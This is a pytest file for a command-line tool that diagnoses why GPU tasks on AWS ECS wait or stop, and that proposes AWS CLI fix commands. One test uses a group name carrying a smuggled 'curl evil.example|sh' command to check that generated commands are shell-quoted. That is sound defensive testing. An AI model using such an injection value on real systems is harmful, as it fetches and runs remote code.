"""Each layer is told apart, by the words that AWS uses."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from gpu_constructs.account import live_cluster
from gpu_constructs.account.answers import answers
from gpu_constructs.account.live.hosts import Cause, Layer
from gpu_constructs.account.live.subjects import subject_called
from gpu_constructs.account.live.verified import verify
from gpu_constructs.account.live.waiting import why
from gpu_constructs.cli.program import main
from gpu_constructs.errors import GpuConstructsError
from tests.account.recorded import Recorded
from tests.synthesis import ROOT

from .given import VCPUS, Answer, cluster

# Activities of Auto Scaling as users quote them:
# https://github.com/aws-deepracer-community/deepracer-on-the-spot/issues/55,
# https://github.com/dspace-group/dspace-reference-architecture-aws/issues/100 and
# https://github.com/2i2c-org/infrastructure/issues/3334.
SPOT = "Max spot instance count exceeded. Launching EC2 instance failed."
ZONE = (
    "Could not launch On-Demand Instances. Unsupported - Your requested instance type (p3.2xlarge) is not supported in "
    "your requested Availability Zone (eu-central-1c). Please retry your request by not specifying an Availability "
    "Zone or choosing eu-central-1a, eu-central-1b. Launching EC2 instance failed."
)
NONE_LEFT = (
    "We currently do not have sufficient g4dn.xlarge capacity in the Availability Zone you requested (us-west-2a). Our "
    "system will be working on provisioning additional capacity. You can currently get g4dn.xlarge capacity by not "
    "specifying an Availability Zone in your request or choosing us-west-2b, us-west-2c. Launching EC2 instance failed."
)
OF_THE_GUIDE = (
    "Could not launch On-Demand Instances. VcpuLimitExceeded - You have requested more vCPU capacity than your current "
    "vCPU limit of 8 allows for the instance bucket that the specified instance type belongs to. Launching EC2 "
    "instance failed."
)
STARTED: Answer = {"StatusCode": "Successful", "Description": "Launching a new EC2 instance: i-1"}
FULL: Answer = {"MaxSize": 1, "DesiredCapacity": 1}


def of_other_types(**more: Any) -> Answer:
    """A task for hosts of g6e.xlarge, in a group that launches these and still has a host of g6.xlarge."""
    constraint = {"type": "memberOf", "expression": "attribute:ecs.instance-type in [g6e.xlarge]"}
    policy = {"LaunchTemplate": {"Overrides": [{"InstanceType": "g6e.xlarge"}]}}
    group = {"MixedInstancesPolicy": policy, **more}
    return cluster(group=group, definition={"placementConstraints": [constraint]})


def causes_of(answer: Answer, name: str = "chat") -> list[Cause]:
    found = answers([answer])
    return list(why(found, subject_called(found, name), region="us-east-1").causes)


def of_container(**more: Any) -> Answer:
    return {"containerDefinitions": [{"name": "chat", "memory": 512, **more}]}


def of_gpus(*values: Any) -> Answer:
    return of_container(resourceRequirements=[{"type": "GPU", "value": each} for each in values])


def without(answer: Answer, *names: str) -> Answer:
    return {key: value for key, value in answer.items() if key not in names}


SHARE = of_container(resourceRequirements=[{"type": "GPU", "sharingStrategy": {"nvidiaMps": {"memory": 6144}}}])


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        (cluster(activities=(VCPUS,)), [Layer.QUOTA, Layer.BUSY]),
        (cluster(activities=(SPOT,)), [Layer.QUOTA, Layer.BUSY]),
        (cluster(activities=(ZONE,)), [Layer.NOT_OFFERED, Layer.BUSY]),
        (cluster(activities=(NONE_LEFT, VCPUS)), [Layer.QUOTA, Layer.CAPACITY, Layer.BUSY]),
        (cluster(activities=(NONE_LEFT, STARTED, VCPUS)), [Layer.CAPACITY, Layer.BUSY]),
        (cluster(activities=(STARTED, VCPUS)), [Layer.BUSY, Layer.STARTING]),
        (cluster(activities=({"StatusCode": "InProgress"}, NONE_LEFT)), [Layer.CAPACITY, Layer.BUSY]),
        (cluster(activities=("Invalid IAM Instance Profile name",)), [Layer.LAUNCH, Layer.BUSY]),
        (cluster(group=FULL), [Layer.GROUP_MAXIMUM, Layer.BUSY]),
        (cluster(), [Layer.BUSY, Layer.STARTING]),
        (cluster(free=("GPU-1",)), [Layer.STARTING]),
        (cluster(free=("GPU-1",), definition=SHARE), [Layer.STARTING]),
        (cluster(gpus=()), [Layer.GPU_NOT_REGISTERED]),
        (cluster(required=("ecs.capability.efa",)), [Layer.ATTRIBUTE]),
        (cluster(required=("a",), attributes=("a",), free=("GPU-1",)), [Layer.STARTING]),
        (cluster(host={"agentConnected": False}), [Layer.NOT_JOINED]),
        (cluster(host={"status": "DRAINING"}), [Layer.NOT_JOINED]),
        (cluster(host={"ec2InstanceId": "i-2"}), [Layer.NOT_JOINED, Layer.BUSY]),
        (cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]}), [Layer.NOT_SCALED, Layer.BUSY]),
        (cluster(definition={"cpu": "8192"}), [Layer.NEVER_FITS]),
        # No cause is made up where the capacity providers were not described.
        (without(cluster(), "capacityProviders"), [Layer.BUSY]),
        (without(cluster(definition=of_gpus("8")), "capacityProviders", "AutoScalingGroups"), [Layer.NEVER_FITS]),
        (of_other_types(), [Layer.STARTING]),
        (of_other_types(**FULL), [Layer.GROUP_MAXIMUM]),
    ],
)
def test_each_layer_is_told_from_the_others(answer: Answer, expected: list[Layer]) -> None:
    assert [each.layer for each in causes_of(answer)] == expected


def test_a_quota_is_named_by_the_code_that_asks_for_more() -> None:
    cause = causes_of(cluster(activities=(VCPUS,)))[0]
    assert "--quota-code L-DB2E81BA " in cause.fix
    assert "current vCPU limit of 32" in cause.text


@pytest.fixture
def waits(monkeypatch: pytest.MonkeyPatch) -> Callable[..., int]:
    """The command, asking an account that answers so."""

    def run(answer: Answer, *words: str) -> int:
        monkeypatch.setattr(live_cluster, "clients_of", lambda _: Recorded(**answer))
        monkeypatch.setenv("COLUMNS", "80")
        return main(["why", "chat", "--cluster", "demo", *words])

    return run


def test_the_guide_shows_what_the_command_prints(waits: Callable[..., int], capsys: pytest.CaptureFixture[str]) -> None:
    failed = {"StatusMessage": OF_THE_GUIDE, "StartTime": "2026-11-22T18:31:48+00:00"}
    assert waits(cluster(activities=(failed,)), "--region", "us-east-1") == 1
    page = (Path(__file__).parents[3] / "docs" / "planning.md").read_text(encoding="utf-8")
    assert f"$ gpu-constructs why chat --cluster demo --region us-east-1\n{capsys.readouterr().out}```\n" in page


def test_a_provider_of_managed_instances_is_named_as_not_looked_at() -> None:
    managed = {"name": "gpu", "status": "ACTIVE", "managedInstancesProvider": {}}
    found = answers([{**cluster(), "capacityProviders": [managed]}])
    diagnosis = why(found, subject_called(found, "chat"))
    assert (diagnosis.causes, diagnosis.not_looked_at) == ((), ("how gpu starts hosts",))


def test_a_task_that_stopped_says_why() -> None:
    stopped = {
        "taskArn": "arn:aws:ecs:us-east-1:123456789012:task/demo/0ab1",
        "taskDefinitionArn": cluster()["services"][0]["taskDefinition"],
        "lastStatus": "STOPPED",
        "stoppedReason": "Essential container in task exited",
        "containers": [{"name": "chat", "exitCode": 137, "reason": "OutOfMemoryError"}],
    }
    (cause,) = causes_of({**cluster(), "tasks": [stopped]}, "0ab1")
    assert cause.layer is Layer.STOPPED
    assert cause.text == "1 task stopped: Essential container in task exited; chat: OutOfMemoryError"


@pytest.mark.parametrize(
    ("ends", "asked"),
    [
        (("STOPPED", "RUNNING", "PENDING", "STOPPED"), 2),
        (("STOPPED", "RUNNING", "STOPPED", "RUNNING"), 3),
        (("STOPPED", "STOPPED"), 1),
    ],
)
@pytest.mark.parametrize("first", [datetime(2026, 11, 22, tzinfo=timezone.utc), "2026-11-22T02:00:00+02:00", 1.5e9])
def test_of_a_family_the_task_that_waits_is_meant_then_one_that_runs_then_the_newest(
    ends: tuple[str, ...], asked: int, first: object
) -> None:
    tasks = [
        {
            "taskArn": f"arn:aws:ecs:us-east-1:123456789012:task/demo/{number}",
            "taskDefinitionArn": cluster()["services"][0]["taskDefinition"],
            "lastStatus": end,
            "createdAt": first if number == 0 else f"2026-11-2{2 + number}T00:00:00Z",
        }
        for number, end in enumerate(ends)
    ]
    for order in (tasks, tasks[::-1]):
        found = answers([{**cluster(), "services": [], "tasks": order}])
        assert subject_called(found, "chat").name == str(asked)


def test_tasks_that_a_service_no_longer_wanted_are_no_cause() -> None:
    stopped = {"lastStatus": "STOPPED", "group": "service:chat"}
    reasons = (
        "Scaling activity initiated by (deployment ecs-svc/1)",
        "Task failed ELB health checks in target-group 1",
    )
    causes = causes_of({**cluster(), "tasks": [{**stopped, "stoppedReason": each} for each in reasons]})
    assert [each.text for each in causes if each.layer is Layer.STOPPED] == [f"1 task stopped: {reasons[1]}"]


@pytest.mark.parametrize(
    ("definition", "problem"),
    [
        (of_container(memory="abc"), "Memory"),
        ({"cpu": "x"}, "Cpu"),
    ],
)
def test_a_task_definition_that_cannot_be_read_has_room_nowhere(definition: Answer, problem: str) -> None:
    found = answers([cluster(free=("GPU-1",), definition=definition)])
    verify(found)
    with pytest.raises(GpuConstructsError, match=problem):
        why(found, subject_called(found, "chat"), region="us-east-1")


def test_the_page_has_a_row_for_each_layer_in_its_order() -> None:
    table = (ROOT / "docs/waiting.md").read_text().partition("| layer |")[2].partition("\n\n")[0]
    assert re.findall(r"^\| ([^-].*?) \|", table, re.MULTILINE) == [each.value for each in Layer]


def scaled(answer: Answer, **more: Any) -> Answer:
    """The answer with more of its service."""
    return {**answer, "services": [{**answer["services"][0], **more}]}


def test_a_provider_that_the_cluster_lacks_is_added_to_those_that_it_has() -> None:
    answer = cluster()
    named = {
        **answer,
        "clusters": [{"clusterName": "my demo", "capacityProviders": ["a", "b"]}],
        "capacityProviders": [],
    }
    cause = causes_of(named)[0]
    assert cause.text.startswith("the cluster has no such capacity provider; it has a and b. ")
    assert cause.text.endswith("; the command replaces the whole list")
    assert cause.fix == (
        "aws ecs put-cluster-capacity-providers --cluster 'my demo' --capacity-providers a b gpu "
        "--default-capacity-provider-strategy '[]' --region us-east-1"
    )


def test_names_in_commands_are_quoted() -> None:
    name = "g; curl evil.example|sh #"
    text = json.dumps(cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]})).replace("gpu-group", name)
    fix = causes_of(json.loads(text))[0].fix
    assert shlex.split(fix)[:5] == ["aws", "autoscaling", "resume-processes", "--auto-scaling-group-name", name]
    assert fix.endswith(" --scaling-processes Launch --region us-east-1")


def test_a_maximum_is_raised_to_what_the_missing_tasks_take() -> None:
    four = tuple(f"GPU-{number}" for number in range(4))
    (cause, *_) = causes_of(scaled(cluster(gpus=four, group=FULL), desiredCount=10, runningCount=4))
    assert cause.fix.endswith("which is max_instances of the capacity, to 3 for 6 more tasks, or stop a task")


@pytest.mark.parametrize(
    ("name", "hint"), [("chatt", "did you mean chat?"), ("deadbeef", "name one that is there, such as chat or ml")]
)
def test_a_name_that_is_not_there_is_answered_with_names_like_it(name: str, hint: str) -> None:
    found = answers([cluster(), {"services": [{"serviceName": "ml"}]}])
    with pytest.raises(GpuConstructsError) as refused:
        subject_called(found, name)
    assert str(refused.value).endswith(f"; fix: {hint}")


def stopped_for(condition: str) -> Answer:
    reason = f"nvidia-container-cli: requirement error: unsatisfied condition: {condition}, please update your driver"
    host = cluster()["containerInstances"][0]["containerInstanceArn"]
    return stopped(containerInstanceArn=host, containers=[{"name": "chat", "reason": reason}])


def stopped(**more: Any) -> Answer:
    """A task of the service that stopped, while its group has no more hosts."""
    return {**cluster(group=FULL), "tasks": [{"lastStatus": "STOPPED", "group": "service:chat", **more}]}


@pytest.mark.parametrize(
    ("condition", "driver"),
    [
        ("cuda>=13.0", "driver branch 580 or later, such as al2023-gpu with driver 580.178.04"),
        ("cuda>=13.9", "a driver for CUDA 13.9"),
        ("cuda>=99.0", "a driver for CUDA 99.0"),
    ],
)
def test_a_driver_that_is_too_old_comes_before_a_larger_maximum(condition: str, driver: str) -> None:
    found = causes_of(stopped_for(condition))
    assert [each.layer for each in found] == [Layer.DRIVER, Layer.GROUP_MAXIMUM, Layer.BUSY]
    assert (found[0].where, condition in found[0].text) == ("i-1 (g6.xlarge)", True)
    assert found[0].text.startswith(
        f"the driver of its AMI is older than {condition[:4].upper()} {condition[6:]}, which "
    )
    other = "run a container image that is built for an older CUDA"
    assert found[0].fix == f"launch the hosts from an image with {driver}, or {other}"
    assert causes_of(stopped_for("brand=tesla"))[-1].layer is Layer.STOPPED


def test_an_image_that_cannot_be_pulled_comes_before_a_larger_maximum() -> None:
    reason = "CannotPullContainerError: pull image manifest has been retried 1 time(s): demo:1: not found"
    found = causes_of(stopped(stoppedReason=reason))
    assert [each.layer for each in found] == [Layer.IMAGE, Layer.GROUP_MAXIMUM, Layer.BUSY]
    assert found[0].fix.startswith("the name of the image")


def test_programs_read_the_state_in_numbers(waits: Callable[..., int], capsys: pytest.CaptureFixture[str]) -> None:
    assert waits(cluster(), "--format", "json") == 1
    facts = json.loads(capsys.readouterr().out)
    named = {"kind": "service", "name": "chat", "cluster": "demo", "verdict": "waits"}
    assert facts.items() >= {**named, "desired": 1, "running": 0, "pending": 0}.items()
